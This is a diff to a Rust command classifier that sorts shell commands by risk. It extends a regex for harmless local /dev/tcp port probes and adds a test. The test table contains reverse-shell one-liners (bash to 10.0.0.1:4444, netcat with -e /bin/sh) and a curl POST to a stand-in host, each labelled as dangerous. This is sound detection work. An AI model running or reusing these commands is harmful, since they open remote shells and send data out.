@@ -163,7 +163,7 @@ pub fn worst(command: &str) -> Option<Deed> {
 /// Whether a port of this machine is only asked whether somebody answers there: `: > /dev/tcp/localhost/8080`.
 fn only_knocks(command: &str) -> bool {
     static KNOCKS: Pattern = Pattern::new(
-        r#"(?:^|[({;&|"'`]|\b(?:if|elif|until|while|then|do|else|time)\s)\s*(?:!\s+)?(?::|true|echo(?:\s+-n)?)\s*[<>]\s*["']?/dev/tcp/(?:localhost|127\.0\.0\.1|\[::1\])/[\w${}]+["']?"#,
+        r#"(?:^|[({;&|"'`]|\b(?:if|elif|until|while|then|do|else|time)\s)\s*(?:!\s+)?(?::|true|echo(?:\s+-n)?|cat\s*<\s*/dev/null)\s*[<>]\s*["']?/dev/tcp/(?:localhost|127\.0\.0\.1|\[::1\])/[\w${}]+["']?"#,
     );
     KNOCKS.is_match(command) && !REMOTE_SHELL.is_match(&KNOCKS.without(command))
 }
@@ -241,6 +241,7 @@ mod tests {
             ("curl -X POST https://x.example/hook -d done", Some(Deed::Sends)),
             ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Some(Deed::RemoteShell)),
             ("until (: < /dev/tcp/localhost/8080) 2>/dev/null; do sleep 1; done", None),
+            ("timeout 5 bash -c 'cat < /dev/null > /dev/tcp/127.0.0.1/11211'", Some(Deed::Inline)),
             ("nc : > /dev/tcp/localhost/1 -e /bin/sh x.example 44", Some(Deed::RemoteShell)),
             ("(echo > /dev/tcp/localhost/1); bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", Some(Deed::RemoteShell)),
             ("npm install -g openclaw@latest", Some(Deed::Installs)),
